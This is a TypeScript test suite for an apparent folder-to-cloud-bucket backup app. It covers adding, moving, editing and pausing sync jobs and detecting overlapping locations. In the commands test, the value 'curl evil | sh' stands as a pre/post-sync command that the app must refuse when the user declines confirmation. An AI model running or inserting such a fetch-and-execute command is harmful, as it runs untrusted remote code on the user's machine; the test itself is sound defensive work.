import { symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { DEFAULT_CHOICES, type JobChoices } from "../../../src/shared/model/job-spec.ts";
import type { Retain } from "../../../src/shared/model/retain.ts";
import { hasLinks } from "../../harness/host-abilities.ts";
import { AppStage, draft, newJob } from "./support/app-stage.ts";

const HOUR = 3_600_000;
let stage: AppStage;
let wasabi: string;
beforeEach(async () => {
  stage = await new AppStage().start();
  wasabi = await stage.connection();
});
afterEach(() => stage.close());

const add = (...jobs: ReturnType<typeof newJob>[]) => stage.window.call("addJobs", { jobs });
const code = (code: string) => expect.objectContaining({ code });

describe("adding jobs", () => {
  it("saves them and passes them to the engine", async () => {
    const { jobs } = await add(
      newJob(stage.folder("Photos"), wasabi, "photos/"),
      newJob(stage.folder("Music"), wasabi, "music/"),
    );
    expect(stage.engine.config.jobs.map(({ id, name }) => [id, name])).toEqual([
      [jobs[0], "Photos"],
      [jobs[1], "Music"],
    ]);
    expect(stage.document.content).toMatchObject({ jobs: [{ name: "Photos" }, { name: "Music" }] });
    expect(stage.app.snapshot().jobs[0]?.live.state).toEqual({ kind: "waiting", reason: "starting" });
  });

  it("has the service probed once for each bucket, unless it is known [PB4]", async () => {
    await add(
      newJob(stage.folder("Photos"), wasabi, "photos/"),
      newJob(stage.folder("Music"), wasabi, "music/"),
    );
    expect(stage.engine.named("probeService").map(({ input }) => input)).toEqual([
      expect.objectContaining({ connection: wasabi, prefix: "photos/", unlessKnown: true }),
    ]);
  });

  it("is all or none", async () => {
    const good = newJob(stage.folder("Photos"), wasabi, "photos/");
    const missing = newJob(join(stage.root, "Nowhere"), wasabi, "nowhere/");
    await expect(add(good, missing)).rejects.toEqual(code("source-missing"));
    expect(stage.app.snapshot().jobs).toEqual([]);
    expect(stage.engine.config.jobs).toEqual([]);
  });

  it("refuses a file, an unknown connection and an invalid bucket name", async () => {
    writeFileSync(join(stage.root, "a-file"), "");
    await expect(add(newJob(join(stage.root, "a-file"), wasabi, "x/"))).rejects.toEqual(
      code("source-not-folder"),
    );
    const folder = stage.folder("Photos");
    await expect(add(newJob(folder, "nobody", "x/"))).rejects.toEqual(code("no-connection"));
    const odd = newJob(folder, wasabi, "x/");
    await expect(add({ ...odd, target: { ...odd.target, bucket: "Not A Name" } })).rejects.toEqual(
      code("bad-bucket-name"),
    );
  });
});

describe("[GU3] jobs with nested locations", () => {
  it.each([
    ["the same folder to the same location", "Photos", "photos/", "Photos", "photos/", false, true],
    [
      "a folder inside another's, to the same location",
      "Photos",
      "photos/",
      "Photos/2024",
      "photos/",
      false,
      true,
    ],
    [
      "a folder inside another's, to a location inside its location",
      "Photos",
      "photos/",
      "Photos/2024",
      "photos/x/",
      false,
      true,
    ],
    [
      "a folder inside another's, to a separate location",
      "Photos",
      "photos/",
      "Photos/2024",
      "other/",
      true,
      false,
    ],
    ["two folders to one location", "Photos", "all/", "Music", "all/", false, false],
    ["two folders to one location, one mirrors", "Photos", "all/", "Music", "all/", true, true],
    ["a location inside a mirrored one", "Photos", "", "Music", "music/", true, true],
    ["names that only begin alike [NA1]", "Photos", "a/", "Photos2", "ab/", true, false],
  ])("%s", async (_, folder, prefix, second, secondPrefix, mirror, refused) => {
    await add(newJob(stage.folder(folder), wasabi, prefix, mirror));
    const adding = add(newJob(stage.folder(second), wasabi, secondPrefix));
    if (!refused) await expect(adding).resolves.toBeDefined();
    else
      await expect(adding).rejects.toMatchObject({
        code: "overlap",
        detail: { otherSource: stage.folder(folder) },
      });
    expect(stage.app.snapshot().jobs).toHaveLength(refused ? 1 : 2);
  });

  it("are found among jobs added together or concurrently", async () => {
    const job = newJob(stage.folder("Photos"), wasabi, "photos/");
    await expect(add(job, job)).rejects.toEqual(code("overlap"));
    const [first, second] = await Promise.allSettled([add(job), add(job)]);
    expect([first.status, second.status]).toEqual(["fulfilled", "rejected"]);
  });

  it.skipIf(!hasLinks())("are found through links", async () => {
    await add(newJob(stage.folder("Photos"), wasabi, "photos/"));
    symlinkSync(stage.folder("Photos"), join(stage.root, "Link"));
    await expect(add(newJob(join(stage.root, "Link"), wasabi, "photos/"))).rejects.toEqual(code("overlap"));
  });

  it("are found through two connections to one service", async () => {
    await add(newJob(stage.folder("Photos"), wasabi, "photos/"));
    const { connection } = await stage.window.call("saveConnection", {
      draft: draft("Again", { keys: { kind: "environment" } }),
    });
    await expect(add(newJob(stage.folder("Photos"), connection, "photos/"))).rejects.toEqual(code("overlap"));
  });

  it("are found before anything is added, with what would only mix the files of two jobs", async () => {
    const { jobs } = await add(newJob(stage.folder("Photos"), wasabi, "photos/"));
    const { connection } = await stage.window.call("saveConnection", {
      draft: draft("Again", { keys: { kind: "environment" } }),
    });
    const planned = [
      newJob(stage.folder("Letters"), wasabi, "letters/"),
      newJob(stage.folder("Music"), connection, "photos/music/"),
      newJob(stage.folder("Letters"), connection, "letters/"),
    ];
    const { overlaps } = await stage.window.call("findOverlaps", { jobs: planned });
    expect(overlaps).toEqual([
      { at: 1, kind: "same-target", job: jobs[0], error: expect.objectContaining({ code: "overlap" }) },
      { at: 2, kind: "same-target", error: expect.objectContaining({ code: "overlap" }) },
    ]);
    expect(stage.app.snapshot().jobs).toHaveLength(1);
  });

  it("of one bucket, but on two services, do not nest", async () => {
    const { connection } = await stage.window.call("saveConnection", {
      draft: draft("Own", { endpoint: "https://minio.example" }),
    });
    await add(newJob(stage.folder("Photos"), wasabi, "photos/", true));
    await add(newJob(stage.folder("Photos"), connection, "photos/", true));
    expect(stage.app.snapshot().jobs).toHaveLength(2);
  });

  it("are checked again when a job stops retaining deleted files", async () => {
    await add(newJob(stage.folder("Photos"), wasabi, "all/"));
    const { jobs } = await add(newJob(stage.folder("Music"), wasabi, "all/"));
    const change = (retain: Retain) =>
      stage.window.call("changeJob", {
        job: jobs[0] ?? "",
        name: "Songs",
        choices: { ...DEFAULT_CHOICES, retain },
        from: stage.engine.config.jobs[0]?.choices ?? DEFAULT_CHOICES,
      });
    await expect(change("none")).rejects.toEqual(code("overlap"));
    await change("forever");
    expect(stage.engine.config.jobs.map(({ name }) => name)).toEqual(["Photos", "Songs"]);
  });
});

describe("[JB8] a job moves", () => {
  const target = (prefix: string) => newJob("", wasabi, prefix).target;
  const folder = (name: string) => ({ kind: "folder" as const, path: stage.folder(name) });
  const job = () => stage.engine.config.jobs[0];

  it("keeps its id, name and choices, and remembers where it was", async () => {
    const { jobs } = await add(newJob(stage.folder("Photos"), wasabi, "photos/"));
    const [id = ""] = jobs;
    const before = job();
    await stage.window.call("moveJob", { job: id, source: folder("Pictures"), target: target("pictures/") });
    expect(job()).toEqual({
      ...before,
      source: folder("Pictures"),
      target: target("pictures/"),
      former: [{ source: before?.source, target: before?.target, until: expect.any(Number) }],
    });
    expect(stage.document.content).toMatchObject({ jobs: [{ former: [{ target: target("photos/") }] }] });
    const moved = job();
    await stage.window.call("moveJob", { job: id, source: folder("Pictures"), target: target("pictures/") });
    expect(job()).toEqual(moved);
  });

  it("not to a location of another job, a missing folder or an unknown connection; nothing changes then", async () => {
    const { jobs } = await add(
      newJob(stage.folder("Photos"), wasabi, "photos/", true),
      newJob(stage.folder("Music"), wasabi, "music/", true),
    );
    const [id = ""] = jobs;
    const before = job();
    const move = (source: string, to: ReturnType<typeof target>) =>
      stage.window.call("moveJob", { job: id, source: { kind: "folder", path: source }, target: to });
    const here = stage.folder("Photos");
    await expect(move(here, target("music/"))).rejects.toEqual(code("overlap"));
    await expect(move(join(stage.root, "Nowhere"), target("photos/"))).rejects.toEqual(
      code("source-missing"),
    );
    await expect(move(here, { ...target("photos/"), connection: "nobody" })).rejects.toEqual(
      code("no-connection"),
    );
    expect(job()).toEqual(before);
  });

  it("within its own former location: that is no overlap", async () => {
    const { jobs } = await add(newJob(stage.folder("Photos"), wasabi, "photos/", true));
    const [id = ""] = jobs;
    await stage.window.call("moveJob", { job: id, source: folder("Photos"), target: target("photos/2026/") });
    expect(job()?.target).toEqual(target("photos/2026/"));
  });
});

describe("[DL3] an edit that began before another was saved", () => {
  it("does not undo the other one", async () => {
    const job = await stage.job(wasabi);
    const from = stage.engine.config.jobs[0]?.choices ?? DEFAULT_CHOICES;
    const edit = (part: Partial<JobChoices>, name?: string) =>
      stage.window.call("changeJob", { job, choices: { ...from, ...part }, from, ...(name && { name }) });
    await edit({ exclude: [...from.exclude, "!/a.tmp"] });
    await edit({ exclude: [...from.exclude, "/secret/"], retain: "none" }, "Pictures");
    await edit({ nightly: ["/vm.img"] });
    expect(stage.engine.config.jobs[0]).toMatchObject({
      name: "Pictures",
      choices: { exclude: [...from.exclude, "/secret/", "!/a.tmp"], retain: "none", nightly: ["/vm.img"] },
    });
  });

  it("is refused if there would be too many rules together", async () => {
    const job = await stage.job(wasabi);
    const from = stage.engine.config.jobs[0]?.choices ?? DEFAULT_CHOICES;
    const rules = (name: string) => Array.from({ length: 600 }, (_, i) => `/${name}${i}`);
    const edit = (name: string) =>
      stage.window.call("changeJob", { job, choices: { ...from, exclude: rules(name) }, from });
    await edit("a");
    await expect(edit("b")).rejects.toEqual(code("bad-config"));
    expect(stage.engine.config.jobs[0]?.choices.exclude).toEqual(rules("a"));
  });
});

describe("[CM1] commands around syncs", () => {
  const change = (job: string, commands: JobChoices["commands"]) =>
    stage.window.call("changeJob", {
      job,
      choices: { ...DEFAULT_CHOICES, commands },
      from: stage.engine.config.jobs[0]?.choices ?? DEFAULT_CHOICES,
    });

  it("are saved once the system dialog confirmed them, each new line once", async () => {
    const job = await stage.job(wasabi);
    const commands = { before: "make dump", after: "rm dump" };
    await change(job, commands);
    await change(job, { ...commands, after: "true" });
    await change(job, { before: "make dump" });
    expect(stage.asked).toEqual(["make dump", "rm dump", "make dump", "true"]);
    expect(stage.engine.config.jobs[0]?.choices.commands).toEqual({ before: "make dump" });
  });

  it("change nothing when the user declines", async () => {
    const job = await stage.job(wasabi);
    stage.confirms = false;
    await expect(change(job, { before: "curl evil | sh" })).rejects.toEqual(code("not-confirmed"));
    const added = { ...newJob(stage.folder("Music"), wasabi, "music/"), name: "Music" };
    const choices = { ...DEFAULT_CHOICES, commands: { after: "curl evil | sh" } };
    await expect(add({ ...added, choices })).rejects.toEqual(code("not-confirmed"));
    expect(JSON.stringify(stage.document.content)).not.toContain("evil");
  });
});

describe("[JB2] pause and resume", () => {
  it("of one job and of everything reach the engine and the file", async () => {
    const job = await stage.job(wasabi);
    await stage.window.call("pause", { job, until: null });
    await stage.window.call("pause", { until: null });
    const paused = { kind: "paused", until: null };
    expect(stage.engine.config).toMatchObject({ pause: paused, jobs: [{ pause: paused }] });
    expect(stage.document.content).toMatchObject({ pause: paused, jobs: [{ pause: paused }] });
    await stage.window.call("resume", {});
    expect(stage.engine.config).toMatchObject({ pause: { kind: "running" }, jobs: [{ pause: paused }] });
    await stage.window.call("resume", { job });
    expect(stage.engine.config.jobs[0]?.pause).toEqual({ kind: "running" });
  });

  it("for an hour ends by itself and is removed from the file", async () => {
    const job = await stage.job(wasabi);
    const until = stage.clock.now() + HOUR;
    await stage.window.call("pause", { job, until });
    await stage.clock.advance(HOUR - 1_000);
    expect(stage.app.snapshot().jobs[0]?.pause).toEqual({ kind: "paused", until });
    await stage.clock.advance(2_000);
    expect(stage.app.snapshot().jobs[0]?.pause).toEqual({ kind: "running" });
    expect(stage.document.content).toMatchObject({ jobs: [{ pause: { kind: "running" } }] });
    expect(stage.engine.config.jobs[0]?.pause).toEqual({ kind: "running" });
  });

  it("survives a restart unless it ended meanwhile", async () => {
    const job = await stage.job(wasabi);
    await stage.window.call("pause", { job, until: stage.clock.now() + HOUR });
    await stage.window.call("pause", { until: stage.clock.now() + 2 * HOUR });
    const later = new AppStage();
    await later.clock.advance(HOUR + 1);
    await later.start(stage.document.content as never);
    expect(later.engine.config).toMatchObject({
      pause: { kind: "paused" },
      jobs: [{ pause: { kind: "running" } }],
    });
    expect(later.document.content).toMatchObject({ jobs: [{ pause: { kind: "running" } }] });
    later.close();
  });

  it("without an end is brought to mind each day, until the user resumes", async () => {
    await stage.job(wasabi);
    const days: number[] = [];
    stage.app.onNotice((notice) => void (notice.kind === "paused" && days.push(notice.days)));
    await stage.window.call("pause", { until: null });
    await stage.clock.advance(23 * HOUR);
    // Another change of the settings does not start the day anew.
    await stage.window.call("changeSettings", { theme: "dark" });
    expect(days).toEqual([]);
    await stage.clock.advance(HOUR);
    expect(days).toEqual([1]);
    await stage.clock.advance(24 * HOUR);
    expect(days).toEqual([1, 2]);
    await stage.window.call("changeSettings", { notifications: false });
    await stage.clock.advance(24 * HOUR);
    await stage.window.call("changeSettings", { notifications: true });
    await stage.window.call("resume", {});
    await stage.window.call("pause", { until: stage.clock.now() + 100 * HOUR });
    await stage.clock.advance(50 * HOUR);
    expect(days).toEqual([1, 2]);
  });

  it("ends on waking when the hour passed during sleep", async () => {
    await stage.window.call("pause", { until: stage.clock.now() + HOUR });
    stage.clock.set(stage.clock.now() + 2 * HOUR);
    stage.app.wake();
    await stage.settled();
    expect(stage.app.snapshot().pause).toEqual({ kind: "running" });
    expect(stage.engine.named("wake")).toHaveLength(1);
  });

  it("lets the engine stop its work before sleep, and waits for it", async () => {
    await stage.app.sleep();
    expect(stage.engine.named("sleep")).toHaveLength(1);
  });

  it("does not wake up the engine if sleep is announced again meanwhile", async () => {
    stage.app.wake();
    await stage.app.sleep();
    await stage.settled();
    expect(stage.engine.named("wake")).toEqual([]);
    stage.app.wake();
    await stage.settled();
    expect(stage.engine.named("wake")).toHaveLength(1);
  });

  it("of an unknown job is refused", async () => {
    await expect(stage.window.call("pause", { job: "nobody", until: null })).rejects.toEqual(code("no-job"));
    await expect(stage.window.call("removeJob", { job: "nobody" })).rejects.toEqual(code("no-job"));
  });
});

it("a removed job disappears from file and engine; its folder stays", async () => {
  const job = await stage.job(wasabi);
  await stage.window.call("removeJob", { job });
  expect(stage.engine.config.jobs).toEqual([]);
  expect(stage.app.snapshot().jobs).toEqual([]);
});
